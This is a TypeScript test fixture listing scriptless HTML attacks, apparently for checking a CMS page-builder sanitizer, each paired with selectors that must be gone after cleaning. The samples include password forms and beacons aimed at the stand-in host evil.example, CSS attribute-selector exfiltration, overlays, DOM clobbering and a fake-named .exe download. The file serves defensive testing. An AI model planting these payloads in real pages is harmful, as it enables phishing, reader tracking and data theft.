import { banner, block, contentType, escapeHtml, html, image, row, text } from '../fixtures/markup.ts';
import { faq, tintup, video } from '../fixtures/markup-widgets.ts';

/**
 * Content that attacks without a script: it requests passwords, tracks readers, covers the page or imitates the
 * application.
 */
export interface Intrusion {
  name: string;
  html: string;
  /** Selectors that must match nothing in the result. */
  gone: readonly string[];
}

const evil = 'https://evil.example';

const forms: Intrusion[] = [
  {
    name: 'form that asks for a password',
    html: `<form action="${evil}/login"><input type="password" name="p"><button>Zaloguj</button></form>`,
    gone: ['form', 'input', 'button', '[action]'],
  },
  {
    name: 'field that belongs to a form of the page',
    html: '<input form="checkout" name="coupon" value="x"><textarea form="checkout"></textarea>',
    gone: ['[form]', 'input', 'textarea'],
  },
  {
    name: 'button that sends another form elsewhere',
    html: `<button form="checkout" formaction="${evil}">Dalej</button>`,
    gone: ['button', '[formaction]'],
  },
  {
    name: 'button that looks like that of a banner',
    html: `<button class="pagebuilder-banner-button" form="checkout" formaction="${evil}" style="position:fixed">Dalej</button>`,
    gone: ['button', '[form]', '[formaction]', '[style*="fixed"]'],
  },
  {
    name: 'label that presses a control of the page',
    html: '<label for="place-order">Kliknij</label>',
    gone: ['label', '[for]'],
  },
  {
    name: 'button that opens or closes what is not its own',
    html: '<button popovertarget="menu" commandfor="menu" command="close">x</button><div popover id="menu">y</div>',
    gone: ['[popover]', '[popovertarget]', '[commandfor]'],
  },
  { name: 'dialog that is open at once', html: '<dialog open>Twoje konto wygasło</dialog>', gone: ['dialog'] },
  {
    name: 'drawn select',
    html: '<select><option>Zaloguj</option></select><datalist><option>x</option></datalist>',
    gone: ['select', 'option', 'datalist'],
  },
];

const frames: Intrusion[] = [
  { name: 'frame of a foreign page', html: `<iframe src="${evil}/login"></iframe>`, gone: ['iframe'] },
  { name: 'frame of the own page', html: '<iframe src="/checkout"></iframe>', gone: ['iframe'] },
  {
    name: 'frame that may use the camera',
    html: '<iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ" allow="camera *; microphone *; payment *" name="opener"></iframe>',
    gone: ['[allow*="camera"]', '[allow*="payment"]', 'iframe[name]'],
  },
  {
    name: 'frame of a video host, but no film',
    html: '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe><iframe src="http://www.youtube.com/embed/aqz-KE-bpKQ"></iframe>',
    gone: ['[src*="redirect"]', '[src^="http:"]'],
  },
  {
    name: 'object, embed and portal',
    html: `<object data="${evil}"></object><embed src="${evil}"><portal src="${evil}"></portal><fencedframe src="${evil}"></fencedframe>`,
    gone: ['object', 'embed', 'portal', 'fencedframe'],
  },
  { name: 'film with a player of nobody', html: video({ src: `${evil}/embed/aqz-KE-bpKQ` }), gone: ['iframe'] },
];

const beacons: Intrusion[] = [
  {
    name: 'picture that counts readers',
    html: `<img src="${evil}/a.gif" srcset="${evil}/b.gif 2x" referrerpolicy="unsafe-url" alt="">`,
    gone: ['[src*="evil"]', '[srcset*="evil"]', '[referrerpolicy]'],
  },
  {
    name: 'picture of an address without a scheme',
    html: '<img src="//evil.example/a.gif" alt=""><picture><source srcset="//evil.example/b.gif"><img src="/c.png" alt=""></picture>',
    gone: ['[src*="evil"]', '[srcset*="evil"]'],
  },
  { name: 'attribute that swallows what follows', html: "<img src='/a.gif?<p>sekret</p>'>", gone: ['[src*="sekret"]'] },
  {
    name: 'link that reports where readers go',
    html: `<a href="/x" ping="${evil}/p" attributionsrc="${evil}/a">x</a>`,
    gone: ['[ping]', '[attributionsrc]'],
  },
  {
    name: 'film and sound from elsewhere',
    html: `<video src="${evil}/a.mp4" poster="${evil}/a.jpg" autoplay></video><audio src="${evil}/a.mp3" autoplay></audio><video><track src="${evil}/t.vtt"><source src="${evil}/b.mp4"></video>`,
    gone: ['[src*="evil"]', '[poster*="evil"]', '[autoplay]'],
  },
  {
    name: 'ground, list and border from elsewhere',
    html: `<p style="background:url(${evil}/a)">a</p><ul style="list-style:url(${evil}/b)"><li style="border-image:url(${evil}/c) 1">b</li></ul><p style="background-image:image-set('${evil}/d' 1x)">c</p><p style="background-image:url('//evil.example/e')">d</p><table bgcolor="url(${evil}/f)" background="${evil}/g"><tbody><tr><td>e</td></tr></tbody></table>`,
    gone: ['[style*="evil"]', '[background]'],
  },
  {
    name: 'ground from elsewhere that looks like a directive',
    html: `<p style="background-image:url(${evil}/p.gif?%7B%7B)">a</p><p style="background:url(//evil.example/%7b%7b)">b</p>`,
    gone: ['[style*="evil"]'],
  },
  {
    name: 'film, sound and picture from elsewhere that look like a directive',
    html: `<video src="${evil}/a.mp4?{{" poster="${evil}/a.jpg?{{media url=x}}"></video><audio src="//evil.example/%7B%7B"></audio><img src="${evil}/{{a" alt="">`,
    gone: ['[src*="evil"]', '[poster*="evil"]', '[srcset*="evil"]'],
  },
  {
    name: 'sheets, fonts and preloading',
    html: `<style>@import "${evil}/a.css";@font-face{font-family:x;src:url(${evil}/f)}p{background:url(${evil}/g)}</style><link rel="preload" href="${evil}/h" as="image"><p style="font-family:x">x</p>`,
    gone: ['style', 'link'],
  },
  {
    name: 'drawing that loads a drawing',
    html: `<svg><image href="${evil}/a.png"/><use href="${evil}/b.svg#x"/></svg><math href="${evil}">x</math>`,
    gone: ['svg', 'math', 'image'],
  },
  {
    name: 'old attributes that load',
    html: `<table background="${evil}/a"><tbody><tr><td background="${evil}/b">x</td></tr></tbody></table><img lowsrc="${evil}/c" dynsrc="${evil}/d" src="/e.png" alt=""><body background="${evil}/f">`,
    gone: ['[background]', '[lowsrc]', '[dynsrc]'],
  },
  {
    name: 'ground of a row and a banner',
    html: row(text('x'), { desktop: `${evil}/a.jpg` }) + banner({ desktop: '//evil.example/b.jpg', content: 'x' }),
    gone: ['[style*="evil"]', '[src*="evil"]', '[srcset*="evil"]'],
  },
  {
    name: 'picture of an image and a question',
    html:
      image({ desktop: `${evil}/a.jpg`, alt: 'x' }) + faq([{ question: 'a?', answer: 'b', image: `${evil}/b.jpg` }]),
    gone: ['[src*="evil"]', '[srcset*="evil"]'],
  },
  { name: 'script of a social wall', html: tintup('x', `${evil}/a.js`), gone: ['script', '[src*="evil"]'] },
];

const disguises: Intrusion[] = [
  {
    name: 'layer over the page',
    html: '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Zapłać tutaj</div><div style="pos\\69tion: fixed">x</div>',
    gone: ['[style*="fixed"]', '[style*="z-index"]', '[style*="inset"]'],
  },
  {
    name: 'layer by classes of a sheet',
    html: '<style>.a{position:fixed}</style><style>#html-body [data-pb-style=AAAAAA1]{position:fixed;top:0}</style><div class="a">x</div><div data-pb-style="AAAAAA1">y</div>',
    gone: ['style', '[style*="fixed"]', '[style^="top"]'],
  },
  {
    name: 'rules for the whole page',
    html: '<style>body{display:none}input[value^=a]{background:url(//evil.example/a)}</style>',
    gone: ['style'],
  },
  {
    name: 'ids and names that hide variables',
    html: '<a id="createElement" name="cookie"></a><img name="body" id="location" src="/a.png" alt=""><form id="documentElement"></form>',
    gone: ['#createElement', '#location', '#documentElement', '[name]'],
  },
  {
    name: 'id that a script of the page looks for',
    html: '<div id="root"></div><a id="main"></a>',
    gone: ['#root', '#main'],
  },
  {
    name: 'new page that may change this one',
    html: `<a href="${evil}" target="_blank" rel="opener">x</a><a href="${evil}" target="_top">y</a>`,
    gone: ['[rel~="opener"]', 'a[target="_blank"]:not([rel~="noopener"])', '[target="_top"]'],
  },
  {
    name: 'refresh, base and title',
    html: `<meta http-equiv="refresh" content="0;url=${evil}"><base href="${evil}/"><title>x</title>`,
    gone: ['meta', 'base', 'title'],
  },
  {
    name: 'focus that is drawn away',
    html: '<p tabindex="5" autofocus accesskey="s" contenteditable="true">x</p>',
    gone: ['[tabindex]', '[autofocus]', '[accesskey]', '[contenteditable]'],
  },
  {
    name: 'roles that announce what is not there',
    html: '<div role="alert" aria-live="assertive">x</div><p role="button">y</p><div role="application">z</div>',
    gone: ['[role]', '[aria-live]'],
  },
  {
    name: 'attributes that libraries act upon',
    html: '<div data-bind="html: x" data-mage-init="{}" x-data="{}" hx-get="/x" v-html="x" ng-app onclick is="x-y" slot="a" part="b">x</div>',
    gone: [
      '[data-bind]',
      '[data-mage-init]',
      '[x-data]',
      '[hx-get]',
      '[v-html]',
      '[ng-app]',
      '[is]',
      '[slot]',
      '[part]',
    ],
  },
  {
    name: 'trees in the shadow',
    html: '<div><template shadowrootmode="open"><p>x</p></template></div><template><p>y</p></template>',
    gone: ['template', '[shadowrootmode]'],
  },
  {
    name: 'classes of the application, which may cover the page',
    html: `<a href="${evil}" class="w-ui-15708642 x">a</a><p class="\tw-pb-1\nw-ui-2 _a1b2c30">b</p>`,
    gone: ['.w-ui-15708642', '.w-pb-1', '.w-ui-2', '._a1b2c30'],
  },
  {
    name: 'classes of the application on a content type',
    html: row(text('a', { class: 'w-ui-15708642' }), { className: 'w-ui-15708642 _a1b2c30' }),
    gone: ['.w-ui-15708642', '._a1b2c30'],
  },
  { name: 'download under a false name', html: '<a href="/a.exe" download="faktura.pdf">x</a>', gone: ['[download]'] },
];

/** Returns the same attacks inside the content types that contain HTML. */
function inContentTypes({ name, html: markup, gone }: Intrusion): Intrusion[] {
  const places = {
    text: text(markup),
    'hand-written markup': html(markup),
    'hand-written markup around a widget': contentType('html', {}, `${escapeHtml(markup)}<div>widget</div>`),
    'decoded markup': contentType('html', { 'data-decoded': 'true' }, markup),
    'a block': block(markup),
    'a banner': banner({ content: markup }),
  };
  return Object.entries(places).map(([place, content]) => ({ name: `${name}, in ${place}`, html: content, gone }));
}

const plain = [...forms, ...frames, ...beacons, ...disguises];

/** Attacks without a script, of every known class on HTML of a content management system, written for this project. */
export const scriptlessAttacks: readonly Intrusion[] = [
  ...plain,
  ...plain.filter(({ html: markup }) => !markup.includes('data-content-type')).flatMap(inContentTypes),
];
